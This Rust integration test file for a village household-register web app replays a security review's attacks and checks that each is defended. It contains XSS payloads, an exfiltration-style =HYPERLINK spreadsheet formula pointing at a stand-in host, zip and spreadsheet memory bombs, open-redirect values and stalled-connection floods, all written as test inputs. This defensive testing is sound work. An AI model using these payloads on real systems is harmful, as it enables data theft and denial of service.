//! The attacks of the public-facing review, each replayed from outside against the whole router
//! (in-process HTTP, a freshly seeded SQLite register), and what must happen instead: escaped
//! text, bounded uploads, 4xx answers in the user's language, no panic, no leak.
use crate::common;
use crate::common::probe::{cookie_for, exec, scalar};

use axum::{
    Router,
    body::Body,
    http::{Request, StatusCode, header},
};
use common::web::{app, get, post_form, respond, send};
use fupin::server::{db::Db, seed};

async fn seeded() -> (common::SqliteTest, Router) {
    let t = common::sqlite().await;
    seed::seed(&t.db, 400, &mut |_, _| {}).await.expect("seed");
    seed::demo_users(&t.db).await.expect("demo users");
    seed::demo_transparency(&t.db).await.expect("demo notices");
    let app = app(t.db.clone());
    (t, app)
}

/// No raw `<script>` of ours anywhere in the page, and the text shown escaped.
fn assert_inert(html: &str, escaped: &str) {
    assert!(
        !html.contains("<script>alert"),
        "raw script in the page: {html}"
    );
    assert!(html.contains(escaped), "expected {escaped} in {html}");
}

#[tokio::test]
async fn injected_markup_is_shown_as_text_never_run() {
    let (t, app) = seeded().await;
    let db = &t.db;

    // 2. Reflected into <title>: the search page (answers 400, its HTML must still be inert).
    let (_, html) = send(
        &app,
        get("/search?q=%3C%2Ftitle%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    )
    .await;
    assert_inert(&html, "&lt;/title&gt;&lt;script&gt;");

    // 3. Stored in a published work update's title: every visitor's <title>.
    let id = scalar(
        db,
        "SELECT MIN(id) FROM work_update WHERE state = 'published'",
    )
    .await;
    exec(
        db,
        &format!(
            "UPDATE work_update SET title = '村务</title><script>alert(2)</script>' WHERE id = {id}"
        ),
    )
    .await;
    let (status, html) = send(&app, get(&format!("/updates/{id}"))).await;
    assert_eq!(status, StatusCode::OK);
    assert_inert(&html, "村务&lt;/title&gt;&lt;script&gt;alert(2)");
    // The list shows the same title as text too.
    let (_, html) = send(&app, get("/updates")).await;
    assert!(!html.contains("<script>alert"), "{html}");

    // 1. Reflected into the objection form's <textarea>: the URL no longer fills it at all, and
    // a refused objection's own text comes back escaped.
    let notice = scalar(db, "SELECT MIN(id) FROM notice").await;
    let (_, html) = send(
        &app,
        get(&format!(
            "/notices/{notice}?reason=%3C%2Ftextarea%3E%3Cscript%3Ealert(3)%3C%2Fscript%3E"
        )),
    )
    .await;
    assert!(!html.contains("<script>alert"), "{html}");
    assert!(
        !html.contains("alert(3)"),
        "the URL's text is not shown: {html}"
    );
}

#[tokio::test]
async fn a_refused_objection_keeps_its_text_out_of_urls_and_shows_it_escaped() {
    let (t, app) = seeded().await;
    let notice = scalar(&t.db, "SELECT MIN(id) FROM notice").await;
    let entry = scalar(
        &t.db,
        &format!("SELECT MIN(id) FROM notice_entry WHERE notice_id = {notice}"),
    )
    .await;
    let secret = "</textarea><script>alert(4)</script>我的电话13812345678";
    let form = format!(
        "entry={entry}&reason={}&contact={}&token=bad&answer=1",
        urlencode(secret),
        urlencode("13812345678")
    );
    let (res, _) = respond(
        &app,
        post_form(&format!("/notices/{notice}/objection"), &form),
    )
    .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER);
    let location = res.headers[header::LOCATION].to_str().unwrap().to_string();
    assert!(location.contains("error="), "{location}");
    for leaked in ["13812345678", "script", "%E6%88%91"] {
        assert!(!location.contains(leaked), "{leaked} in {location}");
    }
    let cookie = res.headers[header::SET_COOKIE].to_str().unwrap();
    assert!(cookie.contains("HttpOnly"), "{cookie}");
    let cookie = cookie.split(';').next().unwrap().to_string();
    let req = Request::get(&location)
        .header(header::COOKIE, &cookie)
        .body(Body::empty())
        .unwrap();
    let (status, html) = send(&app, req).await;
    assert_eq!(status, StatusCode::OK);
    assert_inert(&html, "&lt;/textarea&gt;&lt;script&gt;alert(4)");
    assert!(
        html.contains(r#"value="13812345678""#),
        "the contact comes back too"
    );
    // Without the cookie (someone else with the same URL) nothing of it is shown.
    let (_, html) = send(&app, get(&location)).await;
    assert!(!html.contains("alert(4)") && !html.contains("13812345678"));
}

fn urlencode(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

fn upload(body: Body, cookie: Option<&str>) -> Request<Body> {
    let mut req = Request::post("/api/staff/import?name=x.xlsx");
    if let Some(c) = cookie {
        req = req.header(header::COOKIE, c);
    }
    req.body(body).unwrap()
}

#[tokio::test]
async fn hostile_uploads_are_refused_with_a_reason_and_the_server_lives() {
    let (t, app) = seeded().await;
    let clerk = cookie_for(&t.db, "demo-village").await;

    // 4. A tiny workbook naming A1 and XFD1048576 (calamine's dense grid would take 512 GB).
    let mut book = rust_xlsxwriter::Workbook::new();
    let ws = book.add_worksheet();
    ws.write_string(0, 0, "姓名").unwrap();
    ws.write_string(1_048_575, 16_383, "x").unwrap();
    let bomb = book.save_to_buffer().unwrap();
    assert!(bomb.len() < 10_000, "{}", bomb.len());
    let (status, body) = send(&app, upload(Body::from(bomb), Some(&clerk))).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert!(body.contains("file_too_many_rows"), "{body}");
    assert!(
        body.contains(r#""token":null"#),
        "a refused file is not kept: {body}"
    );

    // 5. A CSV of nothing but commas: refused as one row far too wide, before it is read.
    let commas = ",".repeat(4 * 1024 * 1024);
    let (status, body) = send(&app, upload(Body::from(commas), Some(&clerk))).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert!(body.contains("file_row_too_wide"), "{body}");
    // Rows of commas within the width: read, found empty.
    let blank = (",".repeat(200) + "\n").repeat(10_000);
    let (status, body) = send(&app, upload(Body::from(blank), Some(&clerk))).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert!(body.contains("file_empty"), "{body}");
    // More rows than a file may have: refused as it is read.
    let many = "a\n".repeat(600_000);
    let (status, body) = send(&app, upload(Body::from(many), Some(&clerk))).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert!(body.contains("file_too_many_rows"), "{body}");

    // Old Excel (.xls) is refused with a request to save as XLSX or CSV.
    let (status, body) = send(
        &app,
        upload(
            Body::from(vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]),
            Some(&clerk),
        ),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert!(body.contains("file_format"), "{body}");

    // Over the upload limit: 413, decided from the declared length.
    let req = Request::post("/api/staff/import?name=big.csv")
        .header(header::COOKIE, &clerk)
        .header(header::CONTENT_LENGTH, (64u64 << 20).to_string())
        .body(Body::empty())
        .unwrap();
    let (status, _) = send(&app, req).await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE);

    // 7. A cell of six Chinese characters (18 bytes, like an ID) in the dry run's report.
    let file = "姓名,性别,与户主关系\n张三,男,不明不白关系\n";
    let (status, body) = send(&app, upload(Body::from(file), Some(&clerk))).await;
    assert_eq!(status, StatusCode::OK, "{body}");

    // The server still answers.
    let (status, _) = send(&app, get("/healthz")).await;
    assert_eq!(status, StatusCode::OK);
}

#[tokio::test]
async fn the_session_is_checked_before_an_upload_is_read() {
    let (_t, app) = seeded().await;
    let polled = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let seen = polled.clone();
    let body = Body::from_stream(futures::stream::poll_fn(move |_| {
        seen.store(true, std::sync::atomic::Ordering::SeqCst);
        std::task::Poll::Ready(Some(Ok::<_, std::io::Error>(axum::body::Bytes::from(
            vec![b','; 1 << 20],
        ))))
    }));
    let (res, _) = respond(&app, upload(body, None)).await;
    assert_eq!(res.status, StatusCode::UNAUTHORIZED);
    assert!(
        !polled.load(std::sync::atomic::Ordering::SeqCst),
        "the body was read without a session"
    );
}

#[tokio::test]
async fn chinese_text_where_bytes_were_counted_does_not_panic() {
    let (t, app) = seeded().await;
    let clerk = cookie_for(&t.db, "demo-township").await;
    // 7. 欧阳张王李赵 is 18 bytes: the ID check sliced it at byte 17.
    let req = Request::post("/api/staff/find")
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .header(header::COOKIE, &clerk)
        .body(Body::from(format!("q={}", urlencode("欧阳张王李赵"))))
        .unwrap();
    let (status, body) = send(&app, req).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let req = Request::get(format!("/staff?q={}", urlencode("欧阳张王李赵")))
        .header(header::COOKIE, &clerk)
        .body(Body::empty())
        .unwrap();
    let (status, _) = send(&app, req).await;
    assert_eq!(status, StatusCode::OK);
}

#[tokio::test]
async fn exports_are_bounded_inert_and_for_editors() {
    let (t, app) = seeded().await;
    let db = &t.db;

    // 11. The whole register, no filter, no login: refused, in the reader's language.
    let (status, text) = send(&app, get("/export/households.csv")).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(text.contains("请选择一个村"), "{text}");
    let req = Request::get("/export/households.csv")
        .header(header::ACCEPT_LANGUAGE, "en-GB,en")
        .body(Body::empty())
        .unwrap();
    let (status, text) = send(&app, req).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(text.contains("Choose a village"), "{text}");
    // A township alone is not a village either; a village is fine.
    let village: String = match db {
        Db::Sqlite(p) => sqlx::query_scalar("SELECT MIN(village_code) FROM household")
            .fetch_one(p)
            .await
            .unwrap(),
        Db::Postgres(_) => unreachable!(),
    };
    let (status, _) = send(
        &app,
        get(&format!(
            "/export/households.csv?township={}000",
            &village[..9]
        )),
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    let (status, _) = send(
        &app,
        get(&format!("/export/households.csv?village={village}")),
    )
    .await;
    assert_eq!(status, StatusCode::OK);

    // 12. A helper cadre cannot export full details.
    let cadre = cookie_for(db, "demo-cadre").await;
    let req = Request::get("/staff/export/households.csv")
        .header(header::COOKIE, &cadre)
        .body(Body::empty())
        .unwrap();
    let (status, _) = send(&app, req).await;
    assert_eq!(status, StatusCode::FORBIDDEN);

    // 10. A formula in an address leaves the staff export as text, and re-imports as it was.
    let formula = r#"=HYPERLINK("http://example.invalid/?d="&E2,"点此核对")"#;
    exec(
        db,
        &format!(
            "UPDATE household SET address = '{}' WHERE village_code = '{village}'",
            formula.replace('\'', "''")
        ),
    )
    .await;
    let admin = cookie_for(db, "demo-admin").await;
    let req = Request::get(format!("/staff/export/households.csv?village={village}"))
        .header(header::COOKIE, &admin)
        .body(Body::empty())
        .unwrap();
    let (res, body) = respond(&app, req).await;
    assert_eq!(res.status, StatusCode::OK);
    let bytes = body;
    let csv = String::from_utf8_lossy(&bytes);
    assert!(csv.contains("'=HYPERLINK"), "{csv}");
    assert!(
        !csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK"),
        "{csv}"
    );
    let table = fupin::server::transfer::read_table(&bytes).unwrap();
    assert!(
        table
            .lines()
            .iter()
            .any(|(_, cells)| cells.contains(&formula)),
        "the apostrophe comes off on import"
    );
}

#[tokio::test]
async fn redirects_arguments_bodies_and_headers() {
    let (t, app) = seeded().await;

    // 13. A tab or a line break in `next` would lead the browser to another host, or answer 500.
    for next in [
        "%2F%09%2Fother-host/x",
        "%2F%0A",
        "%2F%5Cother-host",
        "%2F%2Fother-host",
    ] {
        let (res, _) = respond(&app, get(&format!("/lang/en?next={next}"))).await;
        assert_eq!(res.status, StatusCode::SEE_OTHER, "{next}");
        assert_eq!(res.headers[header::LOCATION], "/", "{next}");
    }

    // 17. Arguments that do not decode: 400 with a code, not 500 with the decoder's text.
    for form in ["q=%E5%BC%A0&page=abc", "page=2"] {
        let (status, body) = send(&app, post_form("/api/search", form)).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{form}: {body}");
        assert!(body.contains("bad_arguments"), "{body}");
        assert!(!body.contains("invalid digit"), "{body}");
    }
    // An over-long body: 413.
    let req = Request::post("/api/search")
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .header(header::CONTENT_LENGTH, (8u64 << 20).to_string())
        .body(Body::from(vec![b'a'; 8 << 20]))
        .unwrap();
    let (status, _) = send(&app, req).await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE);

    // 21. `Origin: null` without Sec-Fetch-Site is another site's write.
    let req = Request::post("/api/login")
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .header(header::ORIGIN, "null")
        .body(Body::from(format!(
            "username=demo-admin&password={}",
            seed::DEMO_PASSWORD
        )))
        .unwrap();
    let (res, _) = respond(&app, req).await;
    assert_eq!(res.status, StatusCode::FORBIDDEN);
    assert!(res.headers.get(header::SET_COOKIE).is_none());

    // 15. Security headers. A public page carries no script but Leptos's two empty bootstraps:
    // its CSP lets exactly those run (by hash), and the page has no other.
    let (res, body) = respond(&app, get("/")).await;
    let csp = res.headers[header::CONTENT_SECURITY_POLICY]
        .to_str()
        .unwrap()
        .to_string();
    assert_eq!(csp, fupin::server::page::public_page_csp());
    assert!(csp.contains("frame-ancestors 'none'"), "{csp}");
    assert!(!csp.contains("nonce-"), "{csp}");
    let html = String::from_utf8(body).unwrap();
    let mut bootstraps = 0;
    for script in html.split("<script").skip(1) {
        let (open, rest) = script.split_once('>').expect("a script tag");
        let text = rest.split("</script>").next().unwrap_or_default();
        assert!(!open.contains("src="), "<script{open}>");
        if !text.is_empty() {
            assert!(
                fupin::server::page::LEPTOS_BOOTSTRAP.contains(&text),
                "<script{open}>{text}"
            );
            bootstraps += 1;
        }
    }
    assert_eq!(bootstraps, 2, "{html}");
    // A page with the client (the login) carries a CSP whose nonce is the hydration script's.
    let (res, body) = respond(&app, get("/login")).await;
    let h = res.headers.clone();
    assert_eq!(h[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
    assert_eq!(h[header::X_FRAME_OPTIONS], "DENY");
    assert_eq!(h[header::REFERRER_POLICY], "same-origin");
    let csp = h[header::CONTENT_SECURITY_POLICY]
        .to_str()
        .unwrap()
        .to_string();
    assert!(csp.contains("frame-ancestors 'none'"), "{csp}");
    assert!(csp.contains("'wasm-unsafe-eval'"), "{csp}");
    assert!(
        !csp.contains("'unsafe-inline'; img") || csp.contains("style-src 'self' 'unsafe-inline'")
    );
    let nonce = csp
        .split("'nonce-")
        .nth(1)
        .and_then(|r| r.split('\'').next())
        .expect("a nonce")
        .to_string();
    let html = String::from_utf8(body.clone()).unwrap();
    assert!(html.contains(&format!("nonce=\"{nonce}\"")), "{html}");
    // Every inline script of the page carries it.
    for script in html.split("<script").skip(1) {
        let open = script.split('>').next().unwrap_or_default();
        // (leptos_i18n leaves an empty placeholder, which a browser never runs)
        let empty = script.starts_with("></script>");
        assert!(
            open.contains("src=") || open.contains(&nonce) || empty,
            "<script{open}>"
        );
    }
    // A second page gets another nonce.
    let (res, _) = respond(&app, get("/login")).await;
    let other = res.headers[header::CONTENT_SECURITY_POLICY]
        .to_str()
        .unwrap()
        .to_string();
    assert_ne!(other, csp);
    // Not a page: nothing may run.
    let (res, _) = respond(&app, get("/healthz")).await;
    assert!(
        res.headers[header::CONTENT_SECURITY_POLICY]
            .to_str()
            .unwrap()
            .starts_with("default-src 'none'")
    );
    drop(t);
}

/// 8. While another connection holds SQLite's write lock (a long import does), a login is
/// answered quickly with 503 and `Retry-After`, in words the page can show — not a 500.
#[tokio::test]
async fn a_login_during_a_long_import_gets_a_retryable_503() {
    let (t, app) = seeded().await;
    let Db::Sqlite(pool) = &t.db else {
        unreachable!()
    };
    let mut holder = pool.acquire().await.unwrap();
    sqlx::query("BEGIN IMMEDIATE")
        .execute(&mut *holder)
        .await
        .unwrap();
    let started = std::time::Instant::now();
    let req = post_form(
        "/api/login",
        &format!("username=demo-admin&password={}", seed::DEMO_PASSWORD),
    );
    let (res, body) = respond(&app, req).await;
    let waited = started.elapsed();
    assert_eq!(res.status, StatusCode::SERVICE_UNAVAILABLE);
    let retry: u64 = res.headers[header::RETRY_AFTER]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!(retry >= 1);
    let body = String::from_utf8(body).unwrap();
    assert!(body.contains("busy"), "{body}");
    assert!(waited < std::time::Duration::from_secs(9), "{waited:?}");
    sqlx::query("ROLLBACK").execute(&mut *holder).await.unwrap();
    drop(holder);
    // Once the lock is free, the same login goes through.
    let req = post_form(
        "/api/login",
        &format!("username=demo-admin&password={}", seed::DEMO_PASSWORD),
    );
    let (status, body) = send(&app, req).await;
    assert_eq!(status, StatusCode::OK, "{body}");
}

// ---- Parsers under random and hostile input: no panic, memory within a stated cap. ----

mod parsers {
    use fupin::{
        model::{
            id_number,
            search::{SearchTerm, normalize_query},
            transfer::Col,
            transparency, validate,
        },
        server::transfer::read_table,
    };
    use proptest::prelude::*;
    use std::{
        alloc::{GlobalAlloc, Layout, System},
        cell::Cell,
    };

    /// Counts the bytes allocated by the current thread (the readers run on the test's thread).
    struct Counting;

    thread_local! {
        static NOW: Cell<isize> = const { Cell::new(0) };
        static PEAK: Cell<isize> = const { Cell::new(0) };
    }

    fn moved(delta: isize) {
        let _ = NOW.try_with(|n| {
            let v = n.get() + delta;
            n.set(v);
            let _ = PEAK.try_with(|p| p.set(p.get().max(v)));
        });
    }

    unsafe impl GlobalAlloc for Counting {
        unsafe fn alloc(&self, l: Layout) -> *mut u8 {
            let p = unsafe { System.alloc(l) };
            if !p.is_null() {
                moved(l.size() as isize);
            }
            p
        }
        unsafe fn dealloc(&self, p: *mut u8, l: Layout) {
            unsafe { System.dealloc(p, l) };
            moved(-(l.size() as isize));
        }
        unsafe fn realloc(&self, p: *mut u8, l: Layout, new: usize) -> *mut u8 {
            let q = unsafe { System.realloc(p, l, new) };
            if !q.is_null() {
                moved(new as isize - l.size() as isize);
            }
            q
        }
    }

    #[global_allocator]
    static ALLOC: Counting = Counting;

    /// The most memory `f` held at once beyond what was held before it.
    fn peak_during<T>(f: impl FnOnce() -> T) -> (usize, T) {
        let start = NOW.with(Cell::get);
        PEAK.with(|p| p.set(start));
        let out = f();
        let peak = PEAK.with(Cell::get) - start;
        (peak.max(0) as usize, out)
    }

    /// The stated cap: ten times the file, plus a fixed 1 MiB for the readers' own buffers.
    fn cap(len: usize) -> usize {
        10 * len + (1 << 20)
    }

    fn xlsx(rows: u32, cols: u16, far: Option<(u32, u16)>) -> Vec<u8> {
        let mut book = rust_xlsxwriter::Workbook::new();
        let ws = book.add_worksheet();
        for r in 0..rows {
            for c in 0..cols {
                ws.write_string(r, c, format!("{r}-{c}")).unwrap();
            }
        }
        if let Some((r, c)) = far {
            ws.write_string(r, c, "x").unwrap();
        }
        book.save_to_buffer().unwrap()
    }

    #[test]
    fn hostile_files_stay_within_ten_times_their_size() {
        let gbk = encoding_rs::GB18030
            .encode(&"张伟,男,龙溪村\n".repeat(60_000))
            .0
            .into_owned();
        let cases: Vec<(&str, Vec<u8>)> = vec![
            ("commas", vec![b','; 4 << 20]),
            ("newlines", vec![b'\n'; 4 << 20]),
            ("too many rows", b"a\n".repeat(2 << 20)),
            ("one row of cells", b"a,".repeat(2 << 20)),
            ("short rows", b"a\n".repeat(400_000)),
            (
                "dense cells",
                ("a,".repeat(60) + "\n").repeat(30_000).into_bytes(),
            ),
            (
                "empty cells",
                (",".repeat(63) + "a\n").repeat(60_000).into_bytes(),
            ),
            ("quotes", b"\"\"\"\",".repeat(800_000)),
            ("wide row", [vec![b','; 1 << 20], b"x\n".to_vec()].concat()),
            (
                "wide rows",
                [vec![b','; 4000], b"x\n".to_vec()].concat().repeat(500),
            ),
            ("quoted line breaks", b"\"\n\n\n\",".repeat(600_000)),
            ("GB18030 register", gbk),
            (
                "XLSX A1 + XFD1048576",
                xlsx(1, 1, Some((1_048_575, 16_383))),
            ),
            ("XLSX far column", xlsx(1, 1, Some((10, 16_000)))),
        ];
        for (name, bytes) in cases {
            let (peak, result) =
                peak_during(|| read_table(&bytes).map(|t| t.row_numbers().count()));
            println!(
                "{name}: {} bytes -> peak {} bytes ({:.1}x), {result:?}",
                bytes.len(),
                peak,
                peak as f64 / bytes.len() as f64
            );
            assert!(
                peak <= cap(bytes.len()),
                "{name}: {peak} > {}",
                cap(bytes.len())
            );
        }
        // A real register as XLSX (figures printed: shared strings make it denser than CSV).
        let book = xlsx(20_000, 6, None);
        let (peak, rows) = peak_during(|| read_table(&book).map(|t| t.row_numbers().count()));
        println!(
            "XLSX 20,000 x 6: {} bytes -> peak {peak} bytes ({:.1}x), {rows:?}",
            book.len(),
            peak as f64 / book.len() as f64
        );
        assert_eq!(rows, Ok(20_000));
    }

    #[test]
    fn a_zip_declaring_gigabytes_is_refused_before_it_is_inflated() {
        // Highly compressible sheet XML: a few KB that would unpack to hundreds of MB.
        use std::io::Write;
        let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        let opts = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        zip.start_file("xl/worksheets/sheet1.xml", opts).unwrap();
        let chunk = vec![b' '; 1 << 20];
        for _ in 0..300 {
            zip.write_all(&chunk).unwrap();
        }
        let bytes = zip.finish().unwrap().into_inner();
        assert!(bytes.len() < 2 << 20, "{}", bytes.len());
        let (peak, result) = peak_during(|| read_table(&bytes).map(|t| t.last_row()));
        assert_eq!(result, Err("file_too_large"));
        assert!(peak <= cap(bytes.len()), "{peak}");
    }

    /// `book` with its `sharedStrings.xml` replaced by what `edit` makes of it.
    fn with_shared_strings(book: &[u8], edit: impl Fn(String) -> String) -> Vec<u8> {
        use std::io::{Read, Write};
        let mut src = zip::ZipArchive::new(std::io::Cursor::new(book)).unwrap();
        let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        let opts = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        for i in 0..src.len() {
            let mut f = src.by_index(i).unwrap();
            let name = f.name().unwrap().to_string();
            let mut data = Vec::new();
            f.read_to_end(&mut data).unwrap();
            if name.ends_with("sharedStrings.xml") {
                data = edit(String::from_utf8(data).unwrap()).into_bytes();
            }
            out.start_file(name, opts).unwrap();
            out.write_all(&data).unwrap();
        }
        out.finish().unwrap().into_inner()
    }

    #[test]
    fn shared_strings_cannot_claim_or_multiply_memory() {
        // A workbook with shared strings (rust_xlsxwriter's default mode).
        let mut book = rust_xlsxwriter::Workbook::new();
        let ws = book.add_worksheet();
        ws.write_string(0, 0, "姓名").unwrap();
        ws.write_string(1, 0, "张三").unwrap();
        let book = book.save_to_buffer().unwrap();
        assert_eq!(read_table(&book).map(|t| t.last_row()), Ok(2));
        // It claims two billion strings: calamine would reserve 48 GB and abort the process.
        let liar = with_shared_strings(&book, |xml| {
            xml.replace(r#"uniqueCount="2""#, r#"uniqueCount="2000000000""#)
        });
        assert!(liar.len() < 10_000);
        let (peak, result) = peak_during(|| read_table(&liar).map(|t| t.last_row()));
        assert_eq!(result, Err("file_too_large"));
        assert!(peak <= cap(liar.len()), "{peak}");
        // Honest but many: 400,000 one-character strings in a small file.
        let many = with_shared_strings(&book, |xml| {
            let items = "<si><t>x</t></si>".repeat(400_000);
            xml.replace("</sst>", &format!("{items}</sst>")).replace(
                r#"count="2" uniqueCount="2""#,
                r#"count="400002" uniqueCount="400002""#,
            )
        });
        let (peak, result) = peak_during(|| read_table(&many).map(|t| t.last_row()));
        assert_eq!(result, Err("file_too_large"), "{} bytes", many.len());
        assert!(peak <= cap(many.len()), "{peak}");
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn text_rules_never_panic(s in "\\PC{0,40}", digits in "[0-9Xx\\- ０-９]{0,30}") {
            for v in [s.as_str(), digits.as_str()] {
                let _ = id_number::parse(v);
                let _ = id_number::mask_id(v);
                let _ = id_number::mask_phone(v);
                let _ = validate::mobile(v);
                let _ = transparency::personal_data(v);
                let _ = Col::from_header(v);
                if let Ok(Some(q)) = normalize_query(v) {
                    let _ = SearchTerm::parse(&q);
                }
            }
        }

        #[test]
        fn any_bytes_read_as_a_table_or_a_refusal(bytes in proptest::collection::vec(any::<u8>(), 0..2048)) {
            let (peak, _) = peak_during(|| read_table(&bytes));
            prop_assert!(peak <= cap(bytes.len()));
        }

        #[test]
        fn csv_like_text_keeps_every_cell(rows in proptest::collection::vec(
            proptest::collection::vec("[a-z张王李,\"\\n ]{0,6}", 0..8), 0..30)
        ) {
            let text: String = rows.iter().map(|r| r.join(",") + "\n").collect();
            if let Ok(t) = read_table(text.as_bytes()) {
                for n in t.row_numbers() {
                    prop_assert!(!t.row(n).is_empty());
                }
            }
        }

        #[test]
        fn an_id_masks_to_its_ends(seq in 0u16..999, year in 1930i32..2020, day in 1u32..28) {
            let birth = chrono::NaiveDate::from_ymd_opt(year, 1 + (day % 12), day).unwrap();
            let id = id_number::build("430581", birth, seq);
            prop_assert!(id_number::parse(&id).is_ok());
            prop_assert_eq!(transparency::personal_data(&format!("号码 {id}")), Err("personal_data"));
            let masked = id_number::mask_id(&id);
            prop_assert_eq!(masked.chars().count(), 18);
            prop_assert!(!masked.contains(&id[6..14]));
        }
    }
}

/// 14. Over a real socket: connections that never finish their headers — or send nothing, or
/// open with HTTP/2's preface — are closed after the header-read timeout; one address cannot hold
/// more than its share of connections; others are served meanwhile.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stalled_connections_are_cut_off_and_others_still_served() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let t = common::sqlite().await;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let state = fupin::server::state::AppState {
        leptos_options: fupin::server::leptos_options(addr, "target/site"),
        db: t.db.clone(),
    };
    tokio::spawn(fupin::server::serve(listener, state));
    // From other loopback addresses than the one that asks for /healthz below.
    let from = |ip: &'static str| async move {
        let socket = tokio::net::TcpSocket::new_v4().unwrap();
        socket.bind(format!("{ip}:0").parse().unwrap()).unwrap();
        socket.connect(addr).await.unwrap()
    };
    let mut slow = Vec::new();
    // One address takes all the connections it may, saying nothing at all.
    for _ in 0..fupin::server::MAX_PER_PEER {
        slow.push(from("127.0.0.2").await);
    }
    // Another sends unfinished headers, or HTTP/2's preface.
    for i in 0..60 {
        let mut s = from("127.0.0.3").await;
        if i % 2 == 0 {
            s.write_all(b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ")
                .await
                .unwrap();
        } else {
            s.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
                .await
                .unwrap();
        }
        slow.push(s);
    }
    // Someone else is served while they hang.
    let mut ok = tokio::net::TcpStream::connect(addr).await.unwrap();
    ok.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        .await
        .unwrap();
    let mut answer = String::new();
    tokio::time::timeout(
        std::time::Duration::from_secs(5),
        ok.read_to_string(&mut answer),
    )
    .await
    .expect("healthz answers")
    .unwrap();
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    // Past its share, the first address's next connection is closed at once.
    let mut extra = from("127.0.0.2").await;
    let mut buf = Vec::new();
    let closed = tokio::time::timeout(
        std::time::Duration::from_secs(2),
        extra.read_to_end(&mut buf),
    )
    .await;
    assert!(
        closed.is_ok(),
        "a connection past the per-address limit stayed open"
    );
    // Each stalled one is closed by the server within the timeout (and a little).
    let limit = fupin::server::HEADER_READ_TIMEOUT + std::time::Duration::from_secs(5);
    let started = std::time::Instant::now();
    for (i, mut s) in slow.into_iter().enumerate() {
        let mut buf = Vec::new();
        let left = limit.saturating_sub(started.elapsed());
        let read = tokio::time::timeout(left, s.read_to_end(&mut buf)).await;
        assert!(
            read.is_ok(),
            "connection {i} was still open after {limit:?}"
        );
    }
}

/// 19. The staff finder without JavaScript posts its text; the ID never appears in a URL, and the
/// desk at `/staff` shows what was searched.
#[tokio::test]
async fn the_staff_finder_keeps_an_id_out_of_the_address() {
    let (t, app) = seeded().await;
    let staff = cookie_for(&t.db, "demo-admin").await;
    let id: String = match &t.db {
        Db::Sqlite(p) => sqlx::query_scalar(
            "SELECT id_number FROM member WHERE relation = 'head' AND id_number IS NOT NULL LIMIT 1",
        )
        .fetch_one(p)
        .await
        .unwrap(),
        Db::Postgres(_) => unreachable!(),
    };
    let req = Request::post("/staff/find")
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .header(header::COOKIE, &staff)
        .body(Body::from(format!("q={id}")))
        .unwrap();
    let (res, _) = respond(&app, req).await;
    assert_eq!(res.status, StatusCode::SEE_OTHER);
    assert_eq!(res.headers[header::LOCATION], "/staff");
    let find = res.headers[header::SET_COOKIE].to_str().unwrap();
    assert!(find.contains("HttpOnly") && !find.contains(&id), "{find}");
    let find = find.split(';').next().unwrap();
    let req = Request::get("/staff")
        .header(header::COOKIE, format!("{staff}; {find}"))
        .body(Body::empty())
        .unwrap();
    let (status, html) = send(&app, req).await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        html.contains(&format!(r#"value="{id}""#)),
        "the desk shows what was searched"
    );
    assert!(html.contains("/staff/household/"), "and its result: {html}");
    assert!(html.contains(r#"method="post" action="/staff/find""#));
    // Another session (or this one after logging out) with the same cookie sees nothing of it.
    let other = cookie_for(&t.db, "demo-township").await;
    let req = Request::get("/staff")
        .header(header::COOKIE, format!("{other}; {find}"))
        .body(Body::empty())
        .unwrap();
    let (_, html) = send(&app, req).await;
    assert!(!html.contains(&id), "another session saw the query");
    // The export form posts too.
    assert!(html.contains(r#"method="post" action="/staff/export/households.xlsx""#));
}

/// A notice page with its objection form holds a question for one visitor (answerable once): it
/// is never kept for the next one, while a page without a form is.
#[tokio::test]
async fn a_notice_with_its_one_time_question_is_never_kept() {
    let (t, app) = seeded().await;
    let hit = |res: &axum::http::response::Parts| res.headers.contains_key("x-page-cache");
    let (mut with_form, mut without) = (0, 0);
    for id in 1..=12 {
        let url = format!("/notices/{id}");
        let (first, body) = respond(&app, get(&url)).await;
        let status = first.status;
